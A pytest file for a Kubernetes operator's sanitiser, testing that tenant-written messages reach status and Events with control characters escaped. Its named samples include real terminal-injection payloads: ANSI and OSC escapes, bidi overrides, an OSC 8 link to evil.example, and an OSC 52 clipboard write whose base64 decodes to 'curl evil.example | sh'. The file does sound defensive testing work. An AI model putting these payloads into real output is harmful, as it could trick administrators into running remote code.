"""Everything a tenant writes that an admin reads is inert (issue 22, build 3), on the operator's side.

`feedbackloop.core.text.inert` over every code point and drawn text: no character of the forbidden classes
comes out (C0 and C1 controls, DEL, bidi overrides and isolates, other format characters, lone surrogates,
unassigned code points, line and paragraph separators), printable text is unchanged, the result is bounded
and inert again unchanged. Then at the source: what the operator writes from untrusted input (a trainer's
termination message, a Prometheus error, a Pod's waiting message) reaches status and Events inert, through
the two choke points (runtime/record.py's status patch, runtime/act.py's Events), without a write more.
"""

from __future__ import annotations

import asyncio
import copy
import json
import unicodedata
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feedbackloop.core import resources
from feedbackloop.core.fleet import LoopMemory
from feedbackloop.core.text import inert, inert_tree
from feedbackloop.runtime.record import StatusRecorder

from .fake_kube import FakeKube, FakePrometheus, Harness

T0 = 1_800_000_000.0
FORBIDDEN_CATEGORIES = {"Cc", "Cf", "Cs", "Cn", "Zl", "Zp"}
# The attacks by name, each a class the issue lists: what a terminal would obey.
ATTACKS = {
    "CSI colour and erase line": "\x1b[31mred\x1b[2K",
    "OSC 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "BEL": "ding\x07",
    "backspace overwrite": "Failed\x08\x08\x08\x08\x08\x08Passed",
    "carriage return overwrite": "error: disk full\rall good       ",
    "C1 CSI": "\x9b31mred",
    "NEL": "a\x85b",
    "bidi override": "accuracy \u202e0.99 < 0.8\u202c",
    "bidi isolates": "\u2066x\u2067y\u2068z\u2069",
    "bidi marks": "\u200e\u200f\u061c",
    "zero-width": "ad\u200bmin\u200d\ufeff",
    "tag characters": "\U000e0041\U000e0042",
    "line separator": "a\u2028b\u2029c",
    "lone surrogate": "\ud800x",
    "NUL and DEL": "\x00\x7f",
}
HOSTILE = st.sampled_from(sorted(set("".join(ATTACKS.values())) | {"\n", "\t", "\\", "\xa0", "\ue000"}))
TEXT = st.text(st.characters() | HOSTILE, max_size=80) | st.sampled_from([*ATTACKS.values(), "a\r\nb\r\n"])


def bad(char: str, multiline: bool = False) -> bool:
    """A character of the forbidden classes (what a terminal may obey or hide), independent of text.py."""
    if multiline and char in "\n\t":
        return False
    return unicodedata.category(char) in FORBIDDEN_CATEGORIES


def forbidden_in(text: str, multiline: bool = False) -> list[str]:
    return [c for c in text if bad(c, multiline)]


def strings(value: Any) -> list[str]:
    """Every string of a JSON value, keys too."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*strings(k), *strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def assert_inert(value: Any) -> None:
    found = {s: forbidden_in(s) for s in strings(value) if forbidden_in(s)}
    assert not found, f"forbidden characters reach the admin: {found}"


# --- the sanitiser ------------------------------------------------------------------------------------------


def test_every_code_point_is_kept_exactly_when_it_is_harmless_else_shown_as_its_escape() -> None:
    """All 1,114,112 code points in one text: each harmless one kept, each other as Python writes its escape
    (multi-line text differs in newline and tab alone: the Basic Multilingual Plane covers it)."""
    for multiline, end in ((False, 0x110000), (True, 0x10000)):
        everything = "".join(map(chr, range(end)))
        expected = "".join(
            c.encode("unicode_escape", "surrogatepass").decode() if bad(c, multiline) else c for c in everything
        )
        out = inert(everything, multiline=multiline)
        assert out == expected
        assert not forbidden_in(out, multiline)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_named_attack_is_shown_inert(name: str) -> None:
    out = inert(ATTACKS[name])
    assert not forbidden_in(out) and out != ATTACKS[name]
    assert inert(out) == out


def test_escapes_say_what_was_there_and_keep_the_words() -> None:
    assert inert("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert inert("error: disk full\rall good") == "error: disk full\\rall good"
    assert inert("x \u202e1.0") == "x \\u202e1.0"
    assert inert("\x9b\U000e0041") == "\\x9b\\U000e0041"
    assert inert("l1\nl2\tx") == "l1\\nl2\\tx"
    assert inert("l1\r\nl2\tx\r", multiline=True) == "l1\nl2\tx\\r"
    assert inert("déjà vu, 中文, emoji \U0001f600, nbsp\xa0, private \ue000") == (
        "déjà vu, 中文, emoji \U0001f600, nbsp\xa0, private \ue000"
    )


@given(TEXT, st.none() | st.integers(0, 40), st.booleans())
@settings(max_examples=400, deadline=None)
def test_inert_text_has_no_forbidden_character_is_bounded_and_idempotent(
    text: str, limit: int | None, multiline: bool
) -> None:
    out = inert(text, limit, multiline)
    assert not forbidden_in(out, multiline)
    assert limit is None or len(out) <= limit
    assert inert(out, limit, multiline) == out
    if limit is None:  # what is harmless is kept, in order: the escapes only add
        kept = iter(out)
        assert all(c in kept for c in text.replace("\r\n", "\n") if not bad(c, multiline))


@given(st.text(st.characters(exclude_categories=tuple(FORBIDDEN_CATEGORIES)), max_size=200))
@settings(max_examples=300, deadline=None)
def test_printable_text_is_unchanged(text: str) -> None:
    assert inert(text) == text and inert(text, multiline=True) == text
    assert inert(text, len(text)) == text


@given(TEXT, st.integers(3, 40))
@settings(max_examples=200, deadline=None)
def test_a_cut_text_says_so(text: str, limit: int) -> None:
    out = inert(text, limit)
    if len(inert(text)) > limit:
        assert out.endswith("...") and len(out) == limit


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | TEXT,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(TEXT, children, max_size=4),
    max_leaves=25,
)


@given(JSON)
@settings(max_examples=300, deadline=None)
def test_inert_tree_makes_every_string_inert_keys_too_and_touches_nothing_else(value: Any) -> None:
    before = copy.deepcopy(value)
    out = inert_tree(value, 50)
    assert value == before  # a new value; the given one untouched
    assert_inert(out)
    assert all(len(s) <= 50 for s in strings(out))
    assert inert_tree(out, 50) == out
    if not strings(value):
        assert out == value


# --- at the source: the status patch and Events ------------------------------------------------------------

HOSTILE_MESSAGE = ATTACKS["OSC 52 clipboard write"] + ATTACKS["carriage return overwrite"] + ATTACKS["bidi override"]


@dataclass
class RecordingKube(FakeKube):
    """The fake API, keeping what the operator sends: every status patch and every Event's message."""

    patches: list[dict[str, Any]] = field(default_factory=list)
    events: list[tuple[str, str]] = field(default_factory=list)  # (reason, message)

    def patch_status(
        self, namespace: str, name: str, status: dict[str, Any], known_version: str | None = None
    ) -> dict[str, Any]:
        self.patches.append(copy.deepcopy(status))
        return super().patch_status(namespace, name, status, known_version)

    def event(self, loop: dict[str, Any], type_: str, reason: str, message: str) -> None:
        self.events.append((reason, message))
        super().event(loop, type_, reason, message)


def hostile_status() -> dict[str, Any]:
    return {
        "phase": "Monitoring",
        "conditions": [
            {"type": "Ready", "status": "False", "reason": "X", "message": HOSTILE_MESSAGE, "lastTransitionTime": "t"}
        ],
        "metrics": [{"name": "accuracy", "state": "NoData", "message": "query failed: " + HOSTILE_MESSAGE}],
        "history": [{"version": 1, "trigger": "Initial", "outcome": "TrainingFailed", "message": HOSTILE_MESSAGE}],
        "lastFailure": HOSTILE_MESSAGE * 40,
        "handledRequests": {"retrain\x1b[8m": "2026-01-01T00:00:00Z"},
    }


def record(kube: RecordingKube, memory: LoopMemory, body: dict[str, Any], after: dict[str, Any], now: float) -> None:
    before = copy.deepcopy(memory.written_status) if memory.written_status is not None else body.get("status") or {}
    asyncio.run(StatusRecorder(kube, refresh_seconds=60).record(body, memory, before, after, now))


def test_the_status_patch_is_inert_and_the_same_status_is_not_written_again() -> None:
    kube = RecordingKube()
    body = {"metadata": {"namespace": "team-a", "name": "churn"}, "status": {}}
    kube.loops["team-a/churn"] = copy.deepcopy(body)
    memory = LoopMemory()
    record(kube, memory, body, hostile_status(), T0)
    assert len(kube.patches) == 1
    assert_inert(kube.patches[0])
    stored = kube.loops["team-a/churn"]["status"]
    assert stored["conditions"][0]["message"].startswith("\\x1b]52;c;")
    assert all(len(s) <= 4096 for s in strings(stored)) and stored["lastFailure"].endswith("...")
    record(kube, memory, body, hostile_status(), T0 + 1)  # the same decision again: nothing to write
    assert len(kube.patches) == 1


def test_a_restarted_operator_does_not_rewrite_an_inert_status_for_ever() -> None:
    """After a restart the decisions start from the inert status the API server holds: one write at most."""
    kube = RecordingKube()
    body = {"metadata": {"namespace": "team-a", "name": "churn"}, "status": {}}
    kube.loops["team-a/churn"] = copy.deepcopy(body)
    record(kube, LoopMemory(), body, hostile_status(), T0)
    restarted, memory = copy.deepcopy(kube.loops["team-a/churn"]), LoopMemory()
    for step in range(3):
        record(kube, memory, restarted, hostile_status(), T0 + 10 + step)
    assert len(kube.patches) <= 2
    assert_inert(kube.loops["team-a/churn"]["status"])


def loop(**spec: Any) -> dict[str, Any]:
    query = 'accuracy_of{model="{{model}}",namespace="{{namespace}}",version="{{version}}"}'
    body: dict[str, Any] = {
        "apiVersion": "feedbackloop.dev/v1alpha1",
        "kind": "ModelFeedbackLoop",
        "metadata": {"name": "churn", "namespace": "team-a", "uid": "uid-churn", "generation": 1, "annotations": {}},
        "spec": {
            "model": {"name": "churn", "storage": {"persistentVolumeClaim": {"claimName": "artifacts"}}},
            "monitoring": {
                "prometheus": {"url": "http://prometheus:9090"},
                "interval": "10s",
                "metrics": [{"name": "accuracy", "query": query, "min": 0.8, "for": "20s"}],
            },
            "retraining": {"features": ["a", "b"], "target": "label", "cooldown": "10s", "maxRetrainsPerDay": 5},
        },
    }
    body["spec"].update(spec)
    return body


def written(kube: RecordingKube) -> None:
    """Nothing the operator sent the API server, status or Event, carries a forbidden character."""
    for patch in kube.patches:
        assert_inert(patch)
    assert_inert([list(event) for event in kube.events])


def test_a_trainers_hostile_termination_message_reaches_status_and_events_inert() -> None:
    bed = Harness(RecordingKube(), FakePrometheus())
    kube: RecordingKube = bed.kube  # type: ignore[assignment]
    bed.apply(loop())
    bed.cycle(T0)
    kube.finish_job("team-a/churn-train-v1", False, json.dumps({"ok": False, "error": HOSTILE_MESSAGE}))
    bed.cycle(T0 + 5)
    status = bed.status()
    assert "\\x1b]52;c;" in status["lastFailure"] and "\\u202e" in status["history"][-1]["message"]
    assert any(reason == "RetrainingFailed" and "\\x1b]52" in message for reason, message in kube.events)
    written(kube)
    assert_inert(status)


def test_a_prometheus_error_reaches_the_rules_message_and_conditions_inert() -> None:
    bed = Harness(RecordingKube(), FakePrometheus())
    kube: RecordingKube = bed.kube  # type: ignore[assignment]

    def refuse(_query: str) -> Any:
        raise ValueError("bad_data: " + HOSTILE_MESSAGE)

    bed.prometheus.answer("accuracy_of", refuse)
    bed.apply(loop())
    bed.cycle(T0)
    kube.finish_job(
        "team-a/churn-train-v1", True, json.dumps({"ok": True, "version": 1, "challenger": {"accuracy": 0.9}})
    )
    for step in range(1, 5):
        bed.cycle(T0 + 10 * step)
    status = bed.status()
    message = status["metrics"][0]["message"]
    assert status["metrics"][0]["state"] == "NoData" and "\\x1b]52" in message, message
    written(kube)
    assert_inert(status)


def test_a_pods_hostile_waiting_message_reaches_status_inert() -> None:
    bed = Harness(RecordingKube(), FakePrometheus())
    kube: RecordingKube = bed.kube  # type: ignore[assignment]
    bed.prometheus.answer("accuracy_of", [({"model": "churn", "namespace": "team-a"}, 0.95)])
    bed.apply(loop())
    bed.cycle(T0)
    kube.finish_job(
        "team-a/churn-train-v1", True, json.dumps({"ok": True, "version": 1, "challenger": {"accuracy": 0.9}})
    )
    bed.cycle(T0 + 5)
    labels = {
        resources.LOOP_LABEL: resources.loop_label("churn"),
        resources.TRACK_LABEL: "stable",
        resources.VERSION_LABEL: "1",
    }
    waiting = {"waiting": {"reason": "ContainerCreating", "message": "mounting: " + HOSTILE_MESSAGE}}
    server = {"name": "server", "ready": False, "restartCount": 0, "state": waiting}
    pod = {"metadata": {"name": "churn-x", "labels": labels}, "status": {"containerStatuses": [server]}}
    kube.hold_unready("team-a/churn", [pod])
    bed.watch()
    for step in range(1, 4):
        bed.cycle(T0 + 5 + 10 * step)
    status = bed.status()
    shown = [c["message"] for c in status["conditions"] if "ContainerCreating" in c.get("message", "")]
    assert shown and all("\\x1b]52" in message for message in shown), status["conditions"]
    written(kube)
    assert_inert(status)


def test_the_work_is_bounded_by_the_limit_not_by_the_text() -> None:
    """A megabyte of escapes costs what its first few hundred characters cost: only they can be shown."""
    huge = "\x1b" * 1_000_000
    assert inert(huge, 90) == inert(huge[:200], 90) == "\\x1b" * 21 + "\\x1..."
    assert inert("\r\n" * 100_000, 9, multiline=True) == "\n" * 6 + "..."


def cut(whole: str, limit: int) -> str:
    return whole if len(whole) <= limit else (whole[: limit - 3] + "..." if limit >= 3 else whole[:limit])


@given(TEXT, st.integers(0, 30), st.booleans(), st.integers(1, 6))
@settings(max_examples=300, deadline=None)
def test_a_cut_text_is_the_start_of_the_whole_texts_escapes(text: str, limit: int, multiline: bool, times: int) -> None:
    text *= times  # long enough, often, to be cut before it is escaped
    assert inert(text, limit, multiline) == cut(inert(text, None, multiline), limit)
